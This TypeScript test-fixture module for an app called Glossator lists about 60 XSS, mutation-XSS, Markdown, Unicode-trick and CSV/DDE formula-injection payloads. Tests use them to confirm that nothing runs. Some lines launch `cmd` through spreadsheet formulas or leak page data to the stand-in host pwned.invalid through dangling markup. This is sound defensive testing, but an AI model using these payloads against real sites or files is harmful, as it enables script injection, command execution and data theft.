// The hostile payloads: script, markup, link, style and template tricks that must never run in Glossator.
//
// Shared by scripts/make-hostile-corpus.ts (which writes them into e2e/fixtures/hostile-corpus/),
// e2e/hostile.spec.ts and test/unit/hostile-exports.test.ts. Each payload, if it ever ran in a
// page, would leave a trace the tests look for: it sets a global named `__pwned_<n>` (or
// `__pwned_<name>` for metadata, notes and tags), calls alert/confirm/prompt, opens a window, or
// navigates or fetches from https://pwned.invalid/. Every payload is one line (no line breaks),
// so it survives as one block of reading text wherever a reader keeps it as text.

export interface HostilePayload {
  /** 1-based; the payload's marker is `__pwned_<n>`. */
  n: number;
  /** What trick it tries, in a few words. */
  kind: string;
  /** The payload as an attacker writes it. */
  source: string;
  /** Live markup: the .html and .md documents also embed it as real markup, not only as text. */
  markup: boolean;
  /** Markdown syntax: the .md document embeds it as live Markdown. */
  markdown?: boolean;
}

export const PWNED_HOST = 'pwned.invalid';
export const marker = (n: number | string): string => `__pwned_${n}`;

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

/** [kind, source, markup?, markdown?]; numbered in order. */
const RAW: readonly [string, string, boolean, boolean?][] = [
  ['script tag', `<script>window.__pwned_1=1</script>`, true],
  ['upper-case script with a data: src', `<SCRIPT SRC="data:text/javascript,window.__pwned_2=1"></SCRIPT>`, true],
  ['module script', `<script type="module">window.__pwned_3=1</script>`, true],
  ['script split around a nested script', `<scr<script>ipt>window.__pwned_4=1</scr</script>ipt>`, true],
  ['attribute breakout into a script', `"><script>window.__pwned_5=1</script>`, true],
  ['textarea breakout into a script', `</textarea><script>window.__pwned_6=1</script>`, true],
  ['title breakout into an alert', `</title><script>alert('__pwned_7')</script>`, true],
  ['img onerror', `<img src=x onerror="window.__pwned_8=1">`, true],
  ['img onerror alert, unquoted', `<img src=x onerror=alert('__pwned_9')>`, true],
  ['upper-case IMG onerror confirm', `<IMG SRC=/ onerror=confirm('__pwned_10')>`, true],
  ['svg onload', `<svg onload="window.__pwned_11=1">`, true],
  ['script inside svg', `<svg><script>window.__pwned_12=1</script></svg>`, true],
  ['svg animate onbegin', `<svg><animate onbegin="window.__pwned_13=1" attributeName="x" dur="1s"/></svg>`, true],
  ['svg xlink:href javascript:', `<svg><a xlink:href="javascript:window.__pwned_14=1"><text x="20" y="20">svg link</text></a></svg>`, true],
  ['iframe src javascript:', `<iframe src="javascript:parent.__pwned_15=1"></iframe>`, true],
  ['iframe srcdoc script', `<iframe srcdoc="<script>parent.__pwned_16=1</script>"></iframe>`, true],
  ['link href javascript:', `<a href="javascript:window.__pwned_17=1">read more</a>`, true],
  ['link href javascript: split by entities and a tab', `<a href="&#x20;jav&#x09;ascript&#x3A;window.__pwned_18=1">entity-split link</a>`, true],
  ['link to data:text/html', `<a href="data:text/html;base64,${b64('<script>opener.__pwned_19=1</script>')}">data link</a>`, true],
  ['MathML href javascript:', `<math href="javascript:window.__pwned_20=1"><mtext>math link</mtext></math>`, true],
  ['MathML mglyph/style namespace confusion', `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned_21=1">`, true],
  ['object data javascript:', `<object data="javascript:window.__pwned_22=1"></object>`, true],
  ['embed data:text/html', `<embed src="data:text/html,<script>parent.__pwned_23=1</script>">`, true],
  ['form action javascript:', `<form action="javascript:window.__pwned_24=1"><button>Submit</button></form>`, true],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=https://pwned.invalid/__pwned_25">`, true],
  ['base href hijack', `<base href="https://pwned.invalid/__pwned_26/">`, true],
  ['CSS expression()', `<div style="width:expression(window.__pwned_27=1)">IE expression</div>`, true],
  ['CSS background url(javascript:)', `<div style="background:url(javascript:window.__pwned_28=1)">background url</div>`, true],
  ['CSS @import', `<style>@import url("https://pwned.invalid/__pwned_29.css");</style>`, true],
  [
    'style that hides the page and overlays it',
    `<style>body{visibility:hidden}</style><div style="position:fixed;inset:0;z-index:2147483647;background:#c00">__pwned_30 overlay</div>`,
    true,
  ],
  ['external stylesheet link', `<link rel="stylesheet" href="https://pwned.invalid/__pwned_31.css">`, true],
  ['Angular-style template injection', `{{constructor.constructor('window.__pwned_32=1')()}}`, false],
  ['Svelte {@html} text', `{@html '<img src=x onerror=window.__pwned_33=1>'}`, false],
  ['JS template literal', '${alert(\'__pwned_34\')}', false],
  ['Markdown link to javascript:', `[click me](javascript:window.__pwned_35=1)`, false, true],
  ['Markdown image with onerror', `![pwned](x" onerror="window.__pwned_36=1)`, false, true],
  ['Markdown autolink to javascript:', `<javascript:alert('__pwned_37')>`, false, true],
  ['Markdown link to data:text/html', `[data](data:text/html,<script>opener.__pwned_38=1</script>)`, false, true],
  ['entity-encoded script', `&lt;script&gt;window.__pwned_39=1&lt;/script&gt;`, false],
  ['numeric-entity img onerror', `&#60;img src=x onerror=window.__pwned_40=1&#62;`, false],
  // U+202E turns what follows around on screen: stored reversed, it shows as "javascript:window.__pwned_41=1".
  ['right-to-left override hiding javascript:', '\u202E1=14_denwp__.wodniw:tpircsavaj', false],
  ['zero-width joiner inside javascript:', 'java\u200Dscript:window.__pwned_42=1', false],
  ['script after a 20,000-character line', `${'A'.repeat(20_000)}<script>window.__pwned_43=1</script>`, true],
  ['control characters inside an img onerror', '<img src=x\u0001\u0007\u001b onerror=window.__pwned_44=1>\u007f\ufffd\u200b', true],
  ['noscript title mutation XSS', `<noscript><p title="</noscript><img src=x onerror=window.__pwned_45=1>">`, true],
  ['details ontoggle', `<details open ontoggle="window.__pwned_46=1"><summary>details</summary></details>`, true],
  ['input autofocus onfocus', `<input autofocus onfocus="window.__pwned_47=1">`, true],
  ['body onload', `<body onload="window.__pwned_48=1">`, true],
  ['video source onerror', `<video><source onerror="window.__pwned_49=1"></video>`, true],
  ['link opening a new window', `<a href="https://pwned.invalid/__pwned_50" target="_blank">open a window</a>`, true],
  ['img onerror navigating away', `<img src=x onerror="location='https://pwned.invalid/__pwned_51'">`, true],
  ['CSV formula =HYPERLINK', `=HYPERLINK("https://pwned.invalid/__pwned_52","click")`, false],
  ['CSV formula +cmd (DDE)', `+cmd|'/C calc __pwned_53'!A0`, false],
  ['CSV formula -2+3+cmd (DDE)', `-2+3+cmd|'/C calc __pwned_54'!A0`, false],
  ['CSV formula @SUM (DDE)', `@SUM(1+1)*cmd|'/C calc __pwned_55'!A0`, false],
  ['XML CDATA breakout', `]]><script>window.__pwned_56=1</script><![CDATA[`, true],
  ['JSON string breakout', `"}]}<script>window.__pwned_57=1</script>`, true],
  [
    'DOMPurify 2.0 mXSS (mglyph/style comment)',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__pwned_58=1&gt;">`,
    true,
  ],
  ['dangling markup exfiltration', `<img src='https://pwned.invalid/__pwned_59?`, true],
  [
    'svg use with a data: document',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.__pwned_60=1'/></svg>#x"/></svg>`,
    true,
  ],
];

export const PAYLOADS: readonly HostilePayload[] = RAW.map(([kind, source, markup, markdown], i) => ({
  n: i + 1,
  kind,
  source,
  markup,
  ...(markdown ? { markdown } : {}),
}));

/** Payloads for notes, document details and tag names (tag names hold at most 60 characters). */
export const NOTE_PAYLOADS: readonly string[] = [
  `<script>window.__pwned_note_1=1</script>`,
  `<img src=x onerror="window.__pwned_note_2=1"> and <svg onload=alert('__pwned_note_3')>`,
  `[click](javascript:window.__pwned_note_4=1) ![x](x" onerror="window.__pwned_note_5=1)`,
  `</textarea><iframe src="javascript:parent.__pwned_note_6=1"></iframe>`,
  `=HYPERLINK("https://pwned.invalid/__pwned_note_7","open")`,
  `{{constructor.constructor('window.__pwned_note_8=1')()}} {@html '<b onmouseover=window.__pwned_note_9=1>x</b>'}`,
  `<style>body{display:none}</style><a href="data:text/html,<script>opener.__pwned_note_10=1</script>">d</a>`,
  `]]></PlainTextContent><script>window.__pwned_note_11=1</script>"}]`,
  `# Heading\n\n> quote\n\n<details open ontoggle=window.__pwned_note_12=1>\n\n| a | b |\n|---|---|\n| <img src=x onerror=window.__pwned_note_13=1> | x |`,
  // A new cell begins after ";" where that is the list separator, and a new row after a line break.
  `Iran;=HYPERLINK("https://pwned.invalid/__pwned_note_14","open")`,
  `Two points:\n-2+3\n@SUM(1;2) ; "=cmd|' /C calc __pwned_note_15'!A0"`,
];

export const TAG_PAYLOADS: readonly string[] = [
  `<img src=x onerror=window.__pwned_tag_1=1>`,
  `"><svg onload=alert('__pwned_tag_2')>`,
  `=cmd|'/C calc __pwned_tag_3'!A0`,
];

export const META_PAYLOADS = {
  title: `"><img src=x onerror=window.__pwned_meta_title=1> Edited title`,
  author: `</title><script>window.__pwned_meta_author=1</script>`,
  publisher: `{{constructor.constructor('window.__pwned_meta_publisher=1')()}}`,
} as const;

/** Metadata the hostile documents state about themselves (titles, authors) and the file they are in. */
export const DOC_TITLES = {
  txt: `Hostile plain text <script>window.__pwned_title_txt=1</script>`,
  md: `Hostile Markdown <svg onload=window.__pwned_title_md=1>`,
  html: `Hostile HTML <img src=x onerror=window.__pwned_title_html=1>`,
  docx: `Hostile Word <iframe src=javascript:parent.__pwned_title_docx=1>`,
  pdf: `Hostile PDF <a href=javascript:window.__pwned_title_pdf=1>x</a>`,
} as const;

export const DOC_AUTHORS = {
  md: `"><img src=x onerror=window.__pwned_author_md=1>`,
  html: `<script>window.__pwned_author_html=1</script>`,
  pdf: `</textarea><svg onload=window.__pwned_author_pdf=1>`,
} as const;

/** Payloads the PDF's standard fonts can print (printable ASCII) and one line can hold. */
export const PDF_PAYLOADS: readonly HostilePayload[] = PAYLOADS.filter((p) => /^[\x20-\x7e]+$/.test(p.source) && p.source.length <= 110);

/** How a payload is labelled in the documents' text: "P07 title breakout into an alert:". */
export const label = (p: HostilePayload): string => `P${String(p.n).padStart(2, '0')} ${p.kind}:`;

/** Every distinct hostile input: document payloads, note payloads, tag names and metadata. */
export const HOSTILE_COUNT =
  PAYLOADS.length + NOTE_PAYLOADS.length + TAG_PAYLOADS.length + Object.keys(META_PAYLOADS).length +
  Object.keys(DOC_TITLES).length + Object.keys(DOC_AUTHORS).length;
